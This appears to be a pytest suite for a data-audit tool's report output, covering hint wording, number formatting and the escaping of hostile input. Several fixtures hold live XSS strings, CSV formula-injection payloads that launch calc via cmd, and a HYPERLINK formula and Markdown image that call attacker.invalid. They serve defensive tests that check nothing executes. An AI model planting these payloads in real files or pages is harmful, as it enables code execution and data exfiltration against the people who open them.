"""The audit's reports: escaped data, hints, values, and what each file holds."""

import csv
import re
import shutil
import subprocess
import tempfile

import numpy as np
import pytest

from sk_zerror._audit import fit_audit, prepare_audit
from sk_zerror._cli import main
from sk_zerror._hints import (
    feature_summary,
    format_number,
    label_hint,
    regression_hint,
    robust_zscores,
)
from sk_zerror._report import (
    _markdown_table,
    render_html,
    render_report,
)

pd = pytest.importorskip("pandas")
pytest.importorskip("matplotlib")

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


def test_markdown_cells_cannot_break_the_table():
    frame = pd.DataFrame(
        {"a|b": ["x | y", "line\nbreak", "<script>alert(1)</script>"], "n": [1, 2, 3]}
    )
    lines = _markdown_table(frame).splitlines()
    assert len(lines) == 5
    # Three cell separators on every line: no cell adds or removes one.
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 3 for line in lines)
    assert "x \\| y" in lines[2] and "line break" in lines[3]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in lines[4]


HOSTILE = "<img src=x onerror=\"document.body.setAttribute('data-pwned',1)\">"


@pytest.fixture
def hostile_audit(tmp_path):
    """An audit of a table whose ids, text cells and column names are markup."""
    rng = np.random.default_rng(3)
    n = 80
    X = rng.normal(size=(n, 2))
    frame = pd.DataFrame(
        {
            "sample_id": [f"S{i}" for i in range(n)],
            "<b>dose</b>": X[:, 0],
            "b": X[:, 1],
            "y": X[:, 0] + 0.1 * rng.normal(size=n),
        }
    )
    frame.loc[5, "sample_id"] = "<script>document.title='pwned'</script>"
    frame.loc[9, "sample_id"] = HOSTILE
    frame.loc[[5, 9, 20], "y"] += 25
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False)
    out = tmp_path / "out"
    code = main(
        ["audit", str(path), "--target", "y", "--out", str(out), "--quiet"]
        + ["--epochs", "40", "--sigma", "3"]
    )
    assert code == 0
    return out


def test_html_report_escapes_the_data_and_loads_nothing(hostile_audit):
    page = (hostile_audit / "report.html").read_text()
    assert "<script>document.title" not in page and "<img src=x" not in page
    assert "&lt;script&gt;document.title=&#x27;pwned&#x27;&lt;/script&gt;" in page
    assert "&lt;b&gt;dose&lt;/b&gt;" in page
    # Every image is inline and nothing refers to another file or host.
    assert not re.search(r"""(src|href)\s*=\s*["'](?!data:)""", page)
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert page.count("data:image/png;base64,") == 2
    md = (hostile_audit / "report.md").read_text()
    assert "<script>" not in md and "<img" not in md


def chromium(*args):
    profile = tempfile.mkdtemp(prefix="chromium-profile-")
    try:
        return subprocess.run(
            [CHROMIUM, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *args],
            capture_output=True,
            text=True,
            timeout=120,
            check=True,
        ).stdout
    finally:
        shutil.rmtree(profile, ignore_errors=True)


@pytest.mark.skipif(
    CHROMIUM is None, reason="needs chromium (apt-get install chromium)"
)
def test_html_report_renders_in_chromium_and_runs_no_injected_code(hostile_audit):
    page = hostile_audit / "report.html"
    flagged = pd.read_csv(hostile_audit / "flagged.csv")
    dom = chromium("--dump-dom", page.as_uri())
    assert "<title>sk-zerror audit report</title>" in dom
    assert not re.search(r"<body[^>]*data-pwned", dom)
    assert "<title>pwned" not in dom
    # The hostile ids arrive as text in the table.
    assert "&lt;script&gt;document.title='pwned'&lt;/script&gt;" in dom
    assert f'<span id="shown">{len(flagged)}</span>' in dom
    assert dom.count("<tr><td>") == len(flagged)
    # Filtering and sorting from the address, as typing and clicking do.
    dom = chromium("--dump-dom", page.as_uri() + "#q=S20")
    assert '<span id="shown">1</span>' in dom
    dom = chromium("--dump-dom", page.as_uri() + "#sort=row&order=descending")
    rows = [int(r) for r in re.findall(r"<tr><td>(\d+)</td>", dom)]
    assert rows == sorted(flagged["row"], reverse=True)
    shot = hostile_audit / "screenshot.png"
    chromium(f"--screenshot={shot}", "--window-size=1200,1600", page.as_uri())
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# -- why is this row suspect: hints, feature values, definitions ---------------


@pytest.mark.parametrize(
    "value, prediction, tolerance, log, expected",
    [
        (1510.0, 150.0, 20.0, False, "about 10x the prediction: a decimal slip?"),
        (15.2, 150.0, 20.0, False, "about 1/10 of the prediction: a decimal slip?"),
        (8.4, 151.0, 20.0, False, "about 1/18 of the prediction: glucose in mmol/L"),
        (2700.0, 150.0, 20.0, False, "about 18x the prediction: glucose in mg/dL"),
        (511.0, 150.0, 20.0, False, "digits swapped? (151 would fit the prediction"),
        (25.4, 10.1, 0.5, False, "centimetres for inches?"),
        (68.0, 150.0, 5.0, False, "kilograms for pounds?"),
        (32.8, 10.0, 0.3, False, "feet for metres?"),
        (98.6, 37.2, 0.5, False, "degrees Fahrenheit where Celsius is expected?"),
        (2500.0, 2.5, 0.1, False, "about 1000x the prediction: a unit prefix"),
        (1500.0, 150.0, 0.2, True, "about 10x the prediction: a decimal slip?"),
    ],
)
def test_regression_hints_name_the_error_that_explains_a_row(
    value, prediction, tolerance, log, expected
):
    hint = regression_hint(value, prediction, tolerance, log=log)
    assert expected in hint.split("; or ")[0], hint


@pytest.mark.parametrize(
    "value, prediction, tolerance",
    [
        (160.0, 150.0, 20.0),  # within the noise: nothing to explain
        (260.0, 150.0, 5.0),  # 1.73x the prediction: no known factor
        (1030.0, 130.0, 5.0),  # no leading-zero "swap" (0130)
        (np.nan, 150.0, 20.0),
    ],
)
def test_regression_hints_stay_silent_where_nothing_fits(value, prediction, tolerance):
    assert regression_hint(value, prediction, tolerance) == ""


def test_a_loose_prediction_names_both_factors_that_fit():
    hint = regression_hint(2000.0, 97.0, 0.9, log=True)
    assert hint.startswith("about 18x the prediction") and "; or about 10x" in hint


def test_label_hints_name_the_likely_label_with_its_probability():
    assert label_hint(1, 0, 0.91, 0.09) == (
        "the model finds '0' likely (probability 0.91; '1': 0.09)"
    )
    assert label_hint(1.0, 2.0, 0.5, 0.4).startswith("the model finds '2' likely")
    assert label_hint("a", "b", 0.3, 0.6) == ""


@pytest.mark.parametrize(
    "value, text",
    [
        (1.0, "1"),
        (np.float64(7), "7"),
        (123456.7, "123457"),
        (2.5e12, "2500000000000"),
        (1234.5678, "1235"),
        (12.3456, "12.35"),
        (-0.5, "-0.5"),
        (0.000012345, "1.23e-05"),
        (np.nan, "nan"),
    ],
)
def test_numbers_print_without_scientific_notation(value, text):
    assert format_number(value) == text


def test_feature_summary_shows_a_wide_rows_first_and_outstanding_columns():
    cells = pd.DataFrame({f"c{i}": np.arange(20.0) % 5 for i in range(12)})
    cells["c9"] = 1.0 + 0.1 * np.arange(20) % 3
    cells.loc[7, "c9"] = 58.9
    cells["label"] = "x"
    zscores = robust_zscores(cells, [c for c in cells if c != "label"])
    text = feature_summary(cells, zscores, 7)
    assert text.startswith("c0=2; c1=2; c2=2; c3=2; c9=58.9 (robust z +")
    assert text.endswith("... 8 more columns")
    narrow = cells[["c0", "c9", "label"]]
    assert feature_summary(narrow, zscores, 3) == "c0=3; c9=1.3; label=x"


@pytest.fixture
def diamonds(tmp_path):
    """A priced table whose top flag is a price with a slipped decimal point."""
    rng = np.random.default_rng(11)
    n = 300
    carat = rng.uniform(0.3, 2.0, n)
    frame = pd.DataFrame(
        {
            "stone_id": [f"D{i}" for i in range(n)],
            "carat": carat.round(2),
            "cut": rng.choice(["Fair", "Good", "Ideal"], n),
            "depth": rng.normal(61.5, 1.0, n).round(1),
            "price": (4000 * carat + 300 * rng.normal(size=n)).round() + 2000,
        }
    )
    frame.loc[17, "price"] *= 10
    frame.loc[60, "depth"] = 78.9
    frame.loc[60, "price"] = 150000
    return frame


def test_flagged_rows_show_their_values_and_hints_in_both_reports(diamonds, tmp_path):
    path = tmp_path / "diamonds.csv"
    diamonds.to_csv(path, index=False)
    out = tmp_path / "out"
    code = main(
        ["audit", str(path), "--target", "price", "--out", str(out), "--quiet"]
        + ["--epochs", "30"]
    )
    assert code == 0
    flagged = pd.read_csv(out / "flagged.csv")
    assert {17, 60} <= set(flagged["row"])
    hint = flagged.set_index("row").loc[17, "hint"]
    assert hint.startswith("about 10x the prediction: a decimal slip?")
    md = (out / "report.md").read_text()
    page = (out / "report.html").read_text()
    carat = diamonds.loc[60, "carat"]
    values = f"carat={carat:g}; cut={diamonds.loc[60, 'cut']}; depth=78.9 (robust z +"
    for report in (md, page):
        assert values in report
        assert "about 10x the prediction: a decimal slip?" in report
        assert "| 150000 |" in md or "<td>150000</td>" in page  # no 1.5e+05
        assert "e+0" not in report.split("Figures")[0]
    # Every column of the flagged table is defined.
    header = next(line for line in md.splitlines() if line.startswith("| row |"))
    columns = [c.strip() for c in header.strip("|").split("|")]
    definitions = md.split("### Columns")[1]
    assert all(f"- `{column}`:" in definitions for column in columns)
    assert "masked_fraction" in columns and "z_score" in columns
    assert "<dt><code>z_score</code></dt>" in page
    assert "sigma moving from 3 to 5" in md  # the training's sigma explained


def test_a_near_copy_of_the_target_is_warned_about(diamonds):
    diamonds["log_price"] = np.log(diamonds["price"])
    plan = prepare_audit(diamonds, "price")
    assert plan.warnings == [
        "column 'log_price' predicts the target almost exactly (Spearman "
        "correlation +1.000): a copy or transform of it (e.g. its log or another "
        "unit)? The model then learns the target from it and flags only rows "
        "where the two disagree; leave it out of the table unless it is a real "
        "measurement"
    ]
    assert not prepare_audit(diamonds.drop(columns="log_price"), "price").warnings
    labels = diamonds.assign(grade=np.where(diamonds["carat"] > 1, "big", "small"))
    labels["grade_code"] = np.where(labels["grade"] == "big", 1, 0)
    plan = prepare_audit(labels.drop(columns=["price", "log_price"]), "grade")
    assert plan.warnings == [
        "column 'grade_code' predicts the target almost exactly (its value gives "
        "the label in 100.0% of rows): a copy or transform of it (e.g. its log or "
        "another unit)? The model then learns the target from it and flags only "
        "rows where the two disagree; leave it out of the table unless it is a "
        "real measurement"
    ]


def test_integer_labels_print_as_integers(tmp_path):
    rng = np.random.default_rng(12)
    X = rng.normal(size=(200, 2))
    label = (X[:, 0] + X[:, 1] > 0).astype(float)  # 0.0 / 1.0 in the file
    label[:8] = 1 - label[:8]
    frame = pd.DataFrame({"a": X[:, 0], "b": X[:, 1], "label": label})
    path = tmp_path / "labels.csv"
    frame.to_csv(path, index=False)
    assert "1.0" in path.read_text()
    out = tmp_path / "out"
    code = main(
        ["audit", str(path), "--target", "label", "--out", str(out), "--quiet"]
        + ["--epochs", "20"]
    )
    assert code == 0
    with open(out / "all_rows.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["label"] for r in rows} == {"0", "1"}
    assert {r["likely_label"] for r in rows} == {"0", "1"}
    md = (out / "report.md").read_text()
    table = md.split("## Most suspicious rows")[1].split("## Figures")[0]
    assert "| 1 |" in table and "| 1.0 |" not in table and "'1.0'" not in table
    assert "the model finds '0' likely" in md or "the model finds '1' likely" in md
    assert (out / "label_scores.png").exists() and not (out / "zscores.png").exists()
    assert "label_scores.png: histogram of score" in md


def test_indented_notes_nest_in_both_reports(diamonds, tmp_path):
    plan = prepare_audit(diamonds, "price", epochs=2)
    result = fit_audit(plan, seed=0)
    extra = ["demo: 2 injected errors", "  decimal slip x10  found 1 of 1"]
    md = render_report(result, "sk-zerror audit", [], extra)
    assert "- demo: 2 injected errors\n  - decimal slip x10  found 1 of 1\n" in md
    page = render_html(result, "sk-zerror audit", tmp_path, [], extra)
    assert (
        "<li>demo: 2 injected errors<ul><li>decimal slip x10  found 1 of 1</li>"
        "</ul></li>" in page
    )


FORMULAS = [
    '=HYPERLINK("http://attacker.invalid?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
IMAGE = "![px](http://attacker.invalid/p.png)"
TARGET = "y\n\n<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def injection_audit(tmp_path_factory):
    """An audit of a Parquet table whose ids, names and targets attack the readers
    of its CSV files (spreadsheet formulas) and of report.md (Markdown, HTML)."""
    rng = np.random.default_rng(3)
    n = 80
    X = rng.normal(size=(n, 2))
    y = (X[:, 0] + 0.1 * rng.normal(size=n)).astype(object)
    ids = np.array([f"S{i}" for i in range(n)], dtype=object)
    ids[: len(FORMULAS)] = FORMULAS
    ids[6], ids[7] = IMAGE, HOSTILE
    y[:8] = y[:8] + 25  # flagged: their ids are in report.md's table
    y = np.array([f"{v:.4f}" for v in y], dtype=object)
    y[10], y[11] = "=1+1", IMAGE  # not numbers: left out, listed with the value
    frame = pd.DataFrame({"@sample_id": ids, IMAGE: X[:, 0], "-b": X[:, 1]})
    frame[TARGET] = y
    tmp_path = tmp_path_factory.mktemp("injection")
    path = tmp_path / "hostile.parquet"
    frame.to_parquet(path)
    out = tmp_path / "out"
    code = main(
        ["audit", str(path), "--target", TARGET, "--out", str(out), "--quiet"]
        + ["--epochs", "40", "--sigma", "3"]
    )
    assert code == 0
    return out


def read_csv_cells(path):
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_csv_outputs_carry_no_spreadsheet_formula(injection_audit):
    from sk_zerror._escape import FORMULA_START, PLAIN_NUMBER

    tables = {
        name: read_csv_cells(injection_audit / name)
        for name in ("flagged.csv", "all_rows.csv", "left_out.csv")
    }
    for name, rows in tables.items():
        assert rows[0][1] == ("reason" if name == "left_out.csv" else "'@sample_id")
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.match(cell)
    header, *rows = tables["all_rows.csv"]
    assert header[2] == TARGET  # a name that is not a formula stays as it is
    ids = {row[1] for row in rows}
    assert {"'" + cell for cell in FORMULAS} <= ids
    # Numbers stay numbers: negative z-scores are written as they are.
    z = [float(row[header.index("z_score")]) for row in rows]
    assert min(z) < 0 and len(rows) == 78
    left_out = tables["left_out.csv"]
    assert [row[2] for row in left_out[1:]] == ["'=1+1", IMAGE]


def test_report_md_renders_no_image_tag_or_html_from_the_data(injection_audit):
    markdown_it = pytest.importorskip("markdown_it")
    text = (injection_audit / "report.md").read_text(encoding="utf-8")
    parser = markdown_it.MarkdownIt("commonmark").enable("table")
    tokens = parser.parse(text)
    inline = [child for token in tokens for child in token.children or []]
    kinds = {token.type for token in [*tokens, *inline]}
    assert not kinds & {"html_block", "html_inline", "link_open"}
    images = [token.attrs["src"] for token in inline if token.type == "image"]
    assert images and all(not src.startswith(("http", "//")) for src in images)
    assert set(images) <= {p.name for p in injection_audit.glob("*.png")}
    page = parser.render(text)
    assert '<img src="x"' not in page and 'attacker.invalid/p.png"' not in page
    # The hostile strings arrive as text: the ids in the flagged table, the
    # column name in the summary, the target name in the table's header.
    # (and once as a target value, in the table of the rows left out).
    assert page.count(f"<td>{IMAGE}</td>") == 2
    assert f"Features used: {IMAGE}" in page
    assert "<th>y &lt;img src=x onerror=alert(1)&gt;</th>" in page
    assert "<td>&lt;img src=x onerror=" in page
